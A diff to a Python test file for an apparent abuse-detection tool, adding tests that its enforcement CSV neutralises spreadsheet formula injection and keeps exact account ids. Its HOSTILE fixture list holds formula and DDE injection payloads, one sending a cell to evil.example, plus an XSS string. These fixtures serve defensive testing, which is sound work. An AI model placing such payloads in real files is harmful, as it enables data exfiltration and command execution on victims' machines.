@@ -1,4 +1,4 @@
-"""enforcement.csv: who to block, who to review, in order, verbatim ids."""
+"""enforcement.csv: who to block, who to review, in order; spreadsheet-safe cells, exact ids."""
 
 from __future__ import annotations
 
@@ -8,7 +8,7 @@ from pathlib import Path
 import pyarrow.parquet as pq
 
 from distillguard.report import write_enforcement_csv
-from distillguard.report._enforcement import COLUMNS
+from distillguard.report._enforcement import COLUMNS, FORMULA_TRIGGERS, restore_cell
 from distillguard.schema import ACCOUNTS_SCHEMA
 
 EVIL = '<script>alert("x")</script><img src=x onerror=alert(1)>'
@@ -55,7 +55,8 @@ def test_top_reasons_capped_and_ids_round_trip(tmp_path: Path) -> None:
     tmp_path.mkdir(exist_ok=True)
     pq.write_table(table, tmp_path / "accounts.parquet")
     rows = _read(write_enforcement_csv(tmp_path))
-    assert [r["account_id"] for r in rows] == ids
+    assert [restore_cell(r["account_id"]) for r in rows] == ids
+    assert [bytes.fromhex(r["account_id_hex"]).decode() for r in rows] == ids
     assert rows[0]["top_reasons"] == "r1; r2; r3"
     assert rows[1]["top_reasons"] == ""
 
@@ -64,3 +65,64 @@ def test_empty_scan_writes_header_only(tmp_path: Path) -> None:
     pq.write_table(ACCOUNTS_SCHEMA.empty_table(), tmp_path / "accounts.parquet")
     text = write_enforcement_csv(tmp_path).read_text()
     assert text.strip().replace('"', "") == ",".join(COLUMNS)
+
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "'=already quoted",
+    "plain;=1+1",
+    "ünïcødé-ok",
+]
+
+
+def _hostile_scan(tmp_path: Path) -> Path:
+    import pyarrow as pa
+
+    n = len(HOSTILE)
+    table = pa.table(
+        {
+            "account_id": HOSTILE,
+            "score": [0.99 - i / 100 for i in range(n)],
+            "verdict": ["attack"] * n,
+            "campaign_id": ["=camp()" if i % 2 else "@camp" for i in range(n)],
+            "reasons": [[h, "ok"] for h in reversed(HOSTILE)],
+            "flagged_at": pa.nulls(n, ACCOUNTS_SCHEMA.field("flagged_at").type),
+            "exchanges": list(range(n)),
+            "first_seen": pa.nulls(n, ACCOUNTS_SCHEMA.field("first_seen").type),
+            "last_seen": pa.nulls(n, ACCOUNTS_SCHEMA.field("last_seen").type),
+        },
+        schema=ACCOUNTS_SCHEMA,
+    )
+    pq.write_table(table, tmp_path / "accounts.parquet")
+    return tmp_path
+
+
+def test_hostile_cells_are_neutralized_and_reversible(tmp_path: Path) -> None:
+    path = write_enforcement_csv(_hostile_scan(tmp_path))
+    rows = _read(path)
+    assert len(rows) == len(HOSTILE)
+    for row in rows:
+        for column in ("account_id", "campaign_id", "top_reasons"):
+            # No cell a spreadsheet would evaluate: none begins with a trigger character.
+            assert not row[column].startswith(FORMULA_TRIGGERS), (column, row[column])
+    # Exact values come back: by undoing the one documented escape, or from the hex column.
+    assert [restore_cell(r["account_id"]) for r in rows] == HOSTILE
+    assert [bytes.fromhex(r["account_id_hex"]).decode() for r in rows] == HOSTILE
+    assert {restore_cell(r["campaign_id"]) for r in rows} == {"=camp()", "@camp"}
+    assert [restore_cell(r["top_reasons"]) for r in rows] == [f"{h}; ok" for h in reversed(HOSTILE)]
+    # A value that merely contains a trigger later on is left alone.
+    assert rows[-1]["account_id"] == "ünïcødé-ok"
+    assert rows[-2]["account_id"] == "plain;=1+1"
+
+
+def test_every_cell_is_quoted(tmp_path: Path) -> None:
+    """Quoted cells keep a ';' inside one cell for spreadsheets that split on ';'."""
+    text = write_enforcement_csv(_hostile_scan(tmp_path)).read_text(encoding="utf-8")
+    assert '"plain;=1+1"' in text
+    header = text.splitlines()[0]
+    assert header == ",".join(f'"{c}"' for c in COLUMNS)
